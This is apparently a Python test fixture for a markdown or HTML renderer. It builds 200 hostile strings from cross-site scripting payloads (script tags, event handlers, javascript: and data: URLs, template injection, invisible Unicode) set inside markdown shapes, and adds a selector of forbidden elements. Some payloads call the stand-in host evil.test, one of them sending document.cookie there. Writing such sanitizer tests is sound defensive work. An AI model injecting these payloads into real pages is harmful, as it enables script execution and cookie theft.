"""200 strings that want to be more than text: each would set `window.ran`, open a dialog, or ask evil.test."""

_PAYLOADS = (
    "<script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    '"><svg onload=window.ran=1>',
    "'\"--></style></script><script>window.ran=1</script>",
    "javascript:window.ran=1",
    "java\tscript:window.ran=1//",
    "JaVaScRiPt&colon;window.ran=1",
    "data:text/html,<script>parent.ran=1</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran=1'/>",
    "vbscript:window.ran=1",
    "https://evil.test/x.png",
    "//evil.test/x.png",
    "http://evil.test/?c=`${document.cookie}`",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<object data='javascript:ran=1'><embed src='//evil.test'>",
    "<base href='//evil.test/'><link rel=stylesheet href='//evil.test/a.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<form action='//evil.test'><input name=x autofocus onfocus=window.ran=1>",
    "<style>*{background:url(//evil.test)}</style>",
    "{{constructor.constructor('window.ran=1')()}} ${window.ran=1} <%= ran %>",
    "\u202etxt.exe\u202c \u2066hidden\u2069 \u200b\ufeff\u00ad",
    "&#60;script&#62;window.ran=1&#60;/script&#62; %3Cscript%3Eran=1%3C/script%3E",
    "__proto__ constructor toString hasOwnProperty",
    "\u0000\u0007\u001b[2J\ud7ff\uffff \U0001f468\u200d\U0001f469 " + "a\u0301" * 40,
    "[" * 40 + "](" * 40 + "*" * 41 + "`" * 41,
)
_SHAPES = (
    "{}",
    "[click]({})",
    "![picture]({})",
    "| {} | b |\n|---|---|\n| {} | ![x]({}) |",
    "```{}\n{}\n```",
    "# {}\n> {}\n\n- [ ] {}",
    '[{}](https://evil.test "{}") <{}>',
    "**{}** _{}_ ~~{}~~ `{}`",
)

HOSTILE: tuple[str, ...] = tuple(shape.replace("{}", payload) for payload in _PAYLOADS for shape in _SHAPES)

FORBIDDEN = (
    "main :is(script, style, iframe:not([sandbox]), object, embed, base, link, meta, [onerror], [onload], [onfocus], "
    "[style*=url], [srcdoc], [src*='evil.test'], [href^='javascript' i], [href^='data' i], [href^='vbscript' i])"
)
"""What never stands in a view, whatever was said; none of our own views holds any of it."""
